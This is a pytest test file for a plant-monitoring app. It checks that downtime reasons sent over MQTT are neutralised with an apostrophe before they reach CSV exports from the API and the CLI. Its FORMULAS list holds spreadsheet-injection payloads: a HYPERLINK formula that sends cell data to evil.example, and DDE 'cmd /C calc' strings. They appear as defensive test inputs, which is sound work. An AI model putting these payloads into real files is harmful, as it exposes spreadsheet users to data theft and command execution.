"""Issue 15, finding 6: a downtime reason sent over MQTT must not become a spreadsheet formula.

The audit's reproduction: reasons such as ``=HYPERLINK(…)`` or ``@SUM(1+9)*cmd|' /C calc'!A0``
came out unneutralised in ``/api/v1/downtime.csv``. Every CSV export goes through one writer,
which puts an apostrophe before text cells beginning with = + - @ tab or CR.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from microfab.cli import app
from microfab.connect.decode import decode_message
from microfab.store import EventStore, open_store
from microfab.track.export import DOWNTIME_COLUMNS, csv_text, neutral_cell
from webapp import CNC2, fill, serving

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def plant(tmp_path: Path) -> Iterator[tuple[EventStore, str]]:
    db = f"sqlite:///{tmp_path}/plant.db"
    with open_store(db) as store:
        fill(store)
        received = dt.datetime(2026, 11, 23, 8, 0, tzinfo=dt.UTC)
        for i, reason in enumerate(FORMULAS):  # through the MQTT decode path, as a device sends
            start = f"2026-11-23T07:{10 + 2 * i:02d}:00Z"
            end = f"2026-11-23T07:{11 + 2 * i:02d}:00Z"
            for j, body in enumerate(
                [
                    {"id": f"f-{i}-a", "ts": start, "state": "unplanned_stop", "reason": reason},
                    {"id": f"f-{i}-b", "ts": end, "state": "running"},
                ]
            ):
                out = decode_message(
                    f"microfab/v1/{CNC2}/state", json.dumps(body).encode(), received_at=received
                )
                assert out.events and not out.dead, (j, out.dead)
                store.append(out.events)
        yield store, db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(text: str) -> None:
    cells = _cells(text)
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], cells
    reasons = {c for c in cells if any(f in c for f in FORMULAS)}
    assert reasons == {"'" + f for f in FORMULAS}


def test_downtime_csv_neutralises_formula_reasons(plant: tuple[EventStore, str]) -> None:
    store, _ = plant
    with serving(store) as (_, api):
        answer = api.get("/api/v1/downtime.csv")
    assert answer.status_code == 200
    _assert_neutral(answer.text)


def test_cli_downtime_csv_neutralises_formula_reasons(plant: tuple[EventStore, str]) -> None:
    _, db = plant
    result = CliRunner().invoke(app, ["downtime", "--csv", "--db", db])
    assert result.exit_code == 0, result.output
    _assert_neutral(result.stdout)


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    assert neutral_cell(-0.5) == -0.5 and neutral_cell(None) == "" and neutral_cell("PB") == "PB"
    text = csv_text([{"state": "idle", "reason": "=1+1", "seconds": -3}], DOWNTIME_COLUMNS)
    assert text.splitlines()[1].startswith("idle,'=1+1,,-3,")
